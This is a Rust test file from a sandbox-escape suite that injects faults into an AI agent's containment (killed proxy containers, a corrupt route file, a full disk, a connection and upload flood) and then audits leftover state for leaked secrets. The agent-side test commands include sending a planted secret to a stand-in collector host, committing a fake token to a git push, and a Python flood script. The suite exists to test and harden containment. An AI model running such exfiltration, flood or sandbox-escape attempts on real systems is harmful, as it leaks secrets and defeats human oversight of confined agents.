//! Faults, one at a time, each on its own bottle (the upstream one on
//! bottle A, last): the shim killed, the sidecar killed, a broken route
//! file sent with SIGHUP mid-traffic, a full disk under the sidecar, the
//! upstream stopped. In each the agent loses egress or gets a clear error,
//! never a new path, and the CLI says what happened. Then the secrets
//! audit over everything the sessions left.

use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Duration;

use libtest_mimic::Failed;

use crate::Suite;
use crate::attacks::{Check, all_refused, fail, none_reached, run_in};
use crate::leak;
use crate::support::docker::objects;
use crate::world::{Bottle, Launch, User, random_hex};

fn start(s: &Suite, home: &Path, label: &str) -> Bottle {
    if home != s.home {
        for dir in ["bottles", "agents"] {
            let o = Command::new("cp").arg("-r").arg(s.home.join(dir)).arg(home).output().unwrap();
            assert!(o.status.success());
        }
    }
    Bottle::start(
        Launch { home, label: label.to_string(), world: &s.world, api_token: &s.api_token, planted: &s.planted },
        s.weaken,
    )
}

const WHOAMI: &str = "curl -sS --max-time 20 https://api.demo.test/whoami 2>&1; echo";

/// After `docker kill` of one of a bottle's containers: no egress at all,
/// no direct path, the CLI ends the session saying which died, nothing left.
fn killed(s: &Suite, role: &str) -> Result<(), Failed> {
    let label = format!("fault-{role}-{}", random_hex(2));
    let b = start(s, &s.home, &label);
    let before = run_in(s, &b, User::Agent, WHOAMI);
    // (With ESCAPE_WEAKEN=network the runner has no proxy to work through.)
    if s.weaken != crate::world::Weaken::Network && !before.stdout.contains("authorized: yes") {
        return Err(fail("the bottle did not work before the fault", &before));
    }
    // The CLI is held still while the agent tries its way out, so its
    // teardown cannot end the agent before the attempts ran.
    b.signal_cli("STOP");
    let o = Command::new("docker").args(["kill", &b.container(role)]).output().unwrap();
    if !o.status.success() {
        b.signal_cli("CONT");
        return Err(format!("docker kill {role}: {}", String::from_utf8_lossy(&o.stderr)).into());
    }
    let after = run_in(
        s,
        &b,
        User::Agent,
        r#"req https://api.demo.test/whoami; req http://collector.demo.test/
python3 - <<'PY'
import os, socket
for host, port in [(os.environ["COLLECTOR_IP"], 9000), (os.environ["API_IP"], 443)]:
    try:
        socket.create_connection((host, port), timeout=5); print("REACHED", host)
    except OSError as e:
        print("blocked", host, e)
PY"#,
    );
    b.signal_cli("CONT");
    let reqs: Vec<&str> = after.stdout.lines().filter(|l| l.starts_with("REQ ")).collect();
    if reqs.len() != 2 || reqs.iter().any(|l| l.contains("200")) {
        return Err(fail(&format!("the agent still had egress after the {role} died"), &after));
    }
    none_reached(&after, 2)?;
    s.collector_untouched()?;
    let code = b.wait(Duration::from_secs(90));
    let err = b.stderr_text();
    if code.is_none() {
        return Err(format!("the session went on after the {role} died:\n{err}").into());
    }
    if code == Some(0) || !err.contains(&format!("the {role} exited")) {
        return Err(format!("the CLI did not report the {role}'s death (exit {code:?}):\n{err}").into());
    }
    let (containers, networks) = objects(&label);
    if !containers.is_empty() || !networks.is_empty() {
        return Err(format!("left behind: {containers:?} {networks:?}").into());
    }
    Ok(())
}

// Defence off: ESCAPE_WEAKEN=network cargo test -p bot-bottle --test escape
// -- fault::killing_the_shim (with the sidecar's network the agent keeps a
// path: "an attempt got through").

fn killing_the_shim_cuts_all_egress(s: &Suite) -> Result<(), Failed> {
    killed(s, "shim")
}

fn killing_the_sidecar_cuts_all_egress(s: &Suite) -> Result<(), Failed> {
    killed(s, "sidecar")
}

// Defence off: ESCAPE_WEAKEN=routes (the collector is routed, so the
// "still refused" half fails).
fn a_broken_route_file_on_sighup_keeps_the_old_policy(s: &Suite) -> Result<(), Failed> {
    let label = format!("fault-hup-{}", random_hex(2));
    let b = start(s, &s.home, &label);
    let routes = b.state_dir().join("egress/routes.json");
    let traffic = std::thread::scope(|scope| {
        let t = scope.spawn(|| {
            run_in(
                s,
                &b,
                User::Agent,
                "for i in $(seq 1 30); do req https://api.demo.test/whoami; req https://collector.demo.test/; sleep 0.05; done",
            )
        });
        std::thread::sleep(Duration::from_millis(600));
        std::fs::write(&routes, "{ this is not a route file").unwrap();
        let o = Command::new("docker").args(["kill", "-s", "HUP", &b.container("sidecar")]).output().unwrap();
        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
        t.join().unwrap()
    });
    let reqs: Vec<&str> = traffic.stdout.lines().filter(|l| l.starts_with("REQ ")).collect();
    if reqs.len() != 60 {
        return Err(fail("the traffic did not run", &traffic));
    }
    for (i, l) in reqs.iter().enumerate() {
        let allowed = i % 2 == 0;
        if allowed && !l.starts_with("REQ 200") {
            return Err(fail(&format!("an allowed request failed across the reload: {l}"), &traffic));
        }
        if !allowed && !l.contains("403") {
            return Err(fail(&format!("a refused host got through across the reload: {l}"), &traffic));
        }
    }
    let logs = Command::new("docker").args(["logs", &b.container("sidecar")]).output().unwrap();
    let logs = String::from_utf8_lossy(&logs.stderr).into_owned() + &String::from_utf8_lossy(&logs.stdout);
    if !logs.contains("reload refused, keeping the old routes") {
        return Err(format!("the sidecar did not say it refused the reload:\n{logs}").into());
    }
    let after = run_in(s, &b, User::Agent, "req https://collector.demo.test/");
    all_refused(&after, 1)?;
    s.collector_untouched()
}

/// A small tmpfs, unmounted on drop.
struct Tmpfs(PathBuf);

impl Tmpfs {
    fn mount(path: PathBuf, size: &str) -> Tmpfs {
        std::fs::create_dir_all(&path).unwrap();
        let o = Command::new("mount")
            .args(["-t", "tmpfs", "-o", &format!("size={size},mode=0755"), "tmpfs"])
            .arg(&path)
            .output()
            .unwrap();
        assert!(o.status.success(), "mount tmpfs (the suite runs as root): {}", String::from_utf8_lossy(&o.stderr));
        Tmpfs(path)
    }
}

impl Drop for Tmpfs {
    fn drop(&mut self) {
        let _ = Command::new("umount").arg("-l").arg(&self.0).output();
    }
}

// Defence off: ESCAPE_WEAKEN=routes (the refused host is then routed).
fn a_full_disk_under_the_sidecar_fails_closed(s: &Suite) -> Result<(), Failed> {
    let disk = Tmpfs::mount(s.home.parent().unwrap().join("small-disk"), "64m");
    let home = disk.0.join("bb");
    std::fs::create_dir_all(&home).unwrap();
    let label = format!("fault-disk-{}", random_hex(2));
    let b = start(s, &home, &label);
    // Fill it.
    let _ = Command::new("dd")
        .args(["if=/dev/zero", "bs=1M"])
        .arg(format!("of={}", disk.0.join("fill").display()))
        .output();
    let pat = format!("ghp_{}", random_hex(18));
    let o = run_in(
        s,
        &b,
        User::Agent,
        &format!(
            r#"req https://collector.demo.test/
V="$PLANTED"; req --data "d=$V" https://api.demo.test/upload
d=$(mktemp -d) && cd "$d" && git clone -q ssh://root@git.demo.test/srv/git/widgets.git w 2>&1 && cd w && \
printf 'GITHUB_TOKEN={pat}\n' > .env && git add .env && git commit -qm full && git push origin HEAD:main 2>&1; echo PUSH-EXIT $?"#
        ),
    );
    all_refused(&o, 2)?;
    if o.stdout.contains("PUSH-EXIT 0") || s.world.upstream_git().contains(&pat) {
        return Err(fail("a push went through with the sidecar's disk full", &o));
    }
    s.api_never_saw(&[&s.planted])?;
    s.collector_untouched()?;
    let _ = std::fs::remove_file(disk.0.join("fill"));
    b.end();
    drop(b);
    Ok(())
}

// Defence off: none needed — the check is that the agent gets a clear
// error (502 naming the upstream) rather than a hang or a path elsewhere.
fn a_stopped_upstream_is_a_clear_error(s: &Suite) -> Result<(), Failed> {
    let api = s.world.container("api");
    let stopped = Command::new("docker").args(["stop", "-t", "1", &api]).output().unwrap();
    assert!(stopped.status.success());
    let o = run_in(
        s,
        &s.a,
        User::Agent,
        "curl -sS --max-time 30 -o /tmp/body -w 'CODE %{http_code}\\n' https://api.demo.test/whoami 2>&1; cat /tmp/body; echo",
    );
    let _ = Command::new("docker").args(["start", &api]).output();
    if !o.stdout.contains("CODE 502") && !o.stdout.contains("CODE 504") {
        return Err(fail("a stopped upstream did not give the agent a gateway error", &o));
    }
    if !o.stdout.contains("api.demo.test") {
        return Err(fail("the error does not name the upstream", &o));
    }
    s.collector_untouched()
}

/// The agent's flood: 64 uploads of 16 MiB started at once through the
/// proxy (each body held whole for its scan), then, while they are in
/// flight, 5,000 tunnels opened and held. Prints what each got.
const FLOOD: &str = r#"python3 - <<'PY'
import http.client, os, resource, socket, ssl, threading, time, urllib.parse
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
# Where the agent reaches the proxy: loopback on docker, the bundle's
# address on smolmachines.
proxy = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
PROXY = (proxy.hostname, proxy.port or 3128)
body = os.urandom(16 << 20)
ctx = ssl.create_default_context()
uploads, tunnels, lock = [], [], threading.Lock()
def upload():
    try:
        c = http.client.HTTPSConnection(PROXY[0], PROXY[1], context=ctx, timeout=180)
        c.set_tunnel("api.demo.test", 443)
        c.request("POST", "/upload", body=body, headers={"content-type": "application/octet-stream"})
        r = c.getresponse(); text = r.read()[:40]
        out = "%d %s" % (r.status, text.decode(errors="replace"))
    except Exception as e:
        out = "error %s" % type(e).__name__
    with lock: uploads.append(out)
held = []
def open_tunnels(n):
    for _ in range(n):
        try:
            s = socket.create_connection(PROXY, timeout=30)
            s.sendall(b"CONNECT api.demo.test:443 HTTP/1.1\r\nHost: api.demo.test:443\r\n\r\n")
            head = s.recv(64).split(b" ")
            code = head[1].decode() if len(head) > 1 else "closed"
            with lock: held.append(s); tunnels.append(code)
        except OSError as e:
            with lock: tunnels.append("error")
ups = [threading.Thread(target=upload) for _ in range(64)]
for t in ups: t.start()
time.sleep(2)
openers = [threading.Thread(target=open_tunnels, args=(100,)) for _ in range(50)]
for t in openers: t.start()
for t in openers: t.join()
print("NOFILE", hard, flush=True)
print("TUNNELS", len(tunnels), "open", tunnels.count("200"), "refused", tunnels.count("503"), "other", len(tunnels) - tunnels.count("200") - tunnels.count("503"), flush=True)
for t in ups: t.join()
stored = sum(1 for u in uploads if u.startswith("200 stored 16777216"))
print("UPLOADS", len(uploads), "stored", stored, "busy", sum(1 for u in uploads if u.startswith("503")), "kinds", sorted(set(u[:60] for u in uploads)), flush=True)
for s in held: s.close()
PY
sleep 1
curl -sS --max-time 20 https://api.demo.test/whoami 2>&1; echo"#;

/// Where a container's memory cgroup keeps its peak (cgroup v2 or v1,
/// either Docker cgroup driver), in bytes.
fn memory_peak(container: &str) -> Option<u64> {
    let id = crate::world::inspect_field(container, "{{.Id}}");
    [
        format!("/sys/fs/cgroup/system.slice/docker-{id}.scope/memory.peak"),
        format!("/sys/fs/cgroup/docker/{id}/memory.peak"),
        format!("/sys/fs/cgroup/memory/docker/{id}/memory.max_usage_in_bytes"),
        format!("/sys/fs/cgroup/memory/system.slice/docker-{id}.scope/memory.max_usage_in_bytes"),
    ]
    .iter()
    .find_map(|p| std::fs::read_to_string(p).ok())
    .and_then(|t| t.trim().parse().ok())
}

// Defence off: before bodies were read into one buffer and large scans
// bounded (egress::proxy::LARGE_SCANS), this flood had the sidecar
// OOM-killed at 768 MiB (`running, OOM-killed: false true`); the body
// budget alone did not bound the scans' working memory. Raising the body
// budget past the sidecar's memory (`Proxy::with_body_budget` in
// sidecar::run) does the same. So does dropping glibc's fixed mmap
// threshold from the sidecar's environment (`MALLOC_MMAP_THRESHOLD_` in
// backend's engine::sidecar): freed bodies stayed in the heap, and the
// sidecar was OOM-killed with 18 and 30 of the 64 uploads stored (two runs;
// with it, the peak is 410–460 MiB).
fn flooding_the_sidecar(s: &Suite) -> Result<(), Failed> {
    // Its own home: the escape bottle with a sidecar of 576 MiB, about half
    // the 1 GiB the uploads would hold at once without the body budget.
    let home = s.home.parent().unwrap().join(format!("flood-{}", random_hex(2))).join("bb");
    std::fs::create_dir_all(&home).unwrap();
    for dir in ["bottles", "agents"] {
        let o = Command::new("cp").arg("-r").arg(s.home.join(dir)).arg(&home).output().unwrap();
        assert!(o.status.success());
    }
    let bottle = home.join("bottles/escape.md");
    let text = std::fs::read_to_string(&bottle).unwrap();
    let limited = text.replacen(
        "---\nThe bottle the sandbox-escape suite attacks.",
        "limits:\n  sidecar_memory: 576MiB\n---\nThe bottle the sandbox-escape suite attacks.",
        1,
    );
    assert_ne!(text, limited, "the escape bottle's frontmatter changed shape");
    std::fs::write(&bottle, limited).unwrap();
    let label = format!("fault-flood-{}", random_hex(2));
    let b = Bottle::start(
        Launch { home: &home, label, world: &s.world, api_token: &s.api_token, planted: &s.planted },
        s.weaken,
    );
    let o = run_in(s, &b, User::Agent, FLOOD);
    let sidecar = b.container("sidecar");
    let state = crate::world::inspect_field(&sidecar, "{{.State.Running}} {{.State.OOMKilled}}");
    let peak = memory_peak(&sidecar);
    println!(
        "flood: {} | {} | sidecar peak {} MiB of 576",
        o.stdout.lines().find(|l| l.starts_with("TUNNELS")).unwrap_or("no tunnels line"),
        o.stdout.lines().find(|l| l.starts_with("UPLOADS")).unwrap_or("no uploads line"),
        peak.map_or("unknown".to_string(), |p| (p >> 20).to_string())
    );
    if state.trim() != "true false" {
        return Err(fail(&format!("the sidecar did not survive the flood (running, OOM-killed: {state})"), &o));
    }
    let tunnels = o.stdout.lines().find(|l| l.starts_with("TUNNELS ")).unwrap_or_default();
    let counts: Vec<usize> = tunnels.split_whitespace().filter_map(|w| w.parse().ok()).collect();
    // Tunnels close as the proxy's handshake bound cuts idle ones, and the
    // uploads free their connections as they end, so more than 1,024 may be
    // served in all; the cap shows in the ones refused.
    // An agent whose own descriptor limit is below the cap cannot reach it.
    let nofile: usize =
        o.stdout.lines().find_map(|l| l.strip_prefix("NOFILE ")).and_then(|n| n.trim().parse().ok()).unwrap_or(0);
    if counts.first() != Some(&5000) || (nofile > 2048 && counts.get(2).is_none_or(|refused| *refused == 0)) {
        return Err(fail("5,000 tunnels were not tried, or none was refused at the connection cap", &o));
    }
    let uploads = o.stdout.lines().find(|l| l.starts_with("UPLOADS ")).unwrap_or_default();
    let stored: usize = uploads.split_whitespace().nth(3).and_then(|w| w.parse().ok()).unwrap_or(0);
    if stored == 0 {
        return Err(fail("no upload went through: the flood was not a load on the body budget", &o));
    }
    if !o.stdout.contains("authorized: yes") {
        return Err(fail("the sidecar did not serve the next well-formed request", &o));
    }
    b.end();
    drop(b);
    Ok(())
}

pub const FAULTS: &[(&str, Check)] = &[
    ("killing_the_shim_cuts_all_egress", killing_the_shim_cuts_all_egress),
    ("killing_the_sidecar_cuts_all_egress", killing_the_sidecar_cuts_all_egress),
    ("a_broken_route_file_on_sighup_keeps_the_old_policy", a_broken_route_file_on_sighup_keeps_the_old_policy),
    ("a_full_disk_under_the_sidecar_fails_closed", a_full_disk_under_the_sidecar_fails_closed),
    ("flooding_the_sidecar", flooding_the_sidecar),
    ("a_stopped_upstream_is_a_clear_error", a_stopped_upstream_is_a_clear_error),
];

/// Every file under `dir`, recursively.
fn files(dir: &Path, out: &mut Vec<PathBuf>) {
    if let Ok(rd) = std::fs::read_dir(dir) {
        for e in rd.flatten() {
            let p = e.path();
            if p.is_dir() && !p.is_symlink() {
                files(&p, out);
            } else if p.is_file() {
                out.push(p);
            }
        }
    }
}

/// After full sessions (bottles A and B end here, exit 3, so their state is
/// kept): no planted secret, in any encoding, in the host's command lines
/// seen during the suite, any file under BOT_BOTTLE_HOME (state dirs, kept
/// sidecar logs, the audit archive), `docker inspect` of every bottle
/// container, the sidecars' logs, or anything the CLI printed.
///
/// Defence off: keep the sidecar's secrets at session end — `sed -i
/// 's/^            forget_secrets(dir);/            let _ = forget_secrets;/'
/// crates/backend/src/docker/bottle.rs`, then -- audit:: ("8 hit(s)": the
/// token, the planted secret, both canaries and the git key in the state
/// dirs).
pub fn secrets_audit(s: &Suite) -> Result<(), Failed> {
    let mut secrets = s.sidecar_only_secrets();
    secrets.push(("the planted secret", s.planted.clone()));
    secrets.push(("bottle A's canary", s.a.canary.clone()));
    secrets.push(("bottle B's canary", s.b.canary.clone()));
    let mut places: Vec<(String, Vec<u8>)> = Vec::new();
    for b in [&s.a, &s.b] {
        for role in ["agent", "sidecar", "shim"] {
            let o = Command::new("docker").args(["inspect", &b.container(role)]).output().unwrap();
            places.push((format!("docker inspect {}", b.container(role)), o.stdout));
        }
        let o = Command::new("docker").args(["logs", &b.container("sidecar")]).output().unwrap();
        places.push((format!("docker logs {}", b.container("sidecar")), [o.stdout, o.stderr].concat()));
    }
    for b in [&s.a, &s.b] {
        let code = b.end();
        if code != Some(3) {
            return Err(
                format!("bottle {} ended with {code:?}, not the agent's 3:\n{}", b.identity, b.stderr_text()).into()
            );
        }
        places.push((format!("{}'s CLI stderr", b.identity), b.stderr_text().into_bytes()));
        places.push((format!("{}'s CLI stdout", b.identity), b.stdout.lock().unwrap().join("\n").into_bytes()));
    }
    let mut all = Vec::new();
    files(&s.home, &mut all);
    if !all.iter().any(|p| p.ends_with("sidecar.log")) {
        return Err(format!("no kept sidecar log under {}", s.home.display()).into());
    }
    for p in all {
        if let Ok(bytes) = std::fs::read(&p) {
            places.push((p.display().to_string(), bytes));
        }
    }
    for i in s.inspects.lock().unwrap().iter() {
        places.push(("docker inspect (during the session)".to_string(), i.clone().into_bytes()));
    }
    for c in s.cmdlines.lock().unwrap().iter() {
        places
            .push((format!("the command line `{}`", c.chars().take(120).collect::<String>()), c.clone().into_bytes()));
    }
    let mut hits = Vec::new();
    for (place, bytes) in &places {
        for (what, v) in &secrets {
            if leak::found(bytes, v) {
                hits.push(format!("{what} in {place}"));
            }
        }
    }
    if hits.is_empty() { Ok(()) } else { Err(format!("{} hit(s):\n{}", hits.len(), hits.join("\n")).into()) }
}
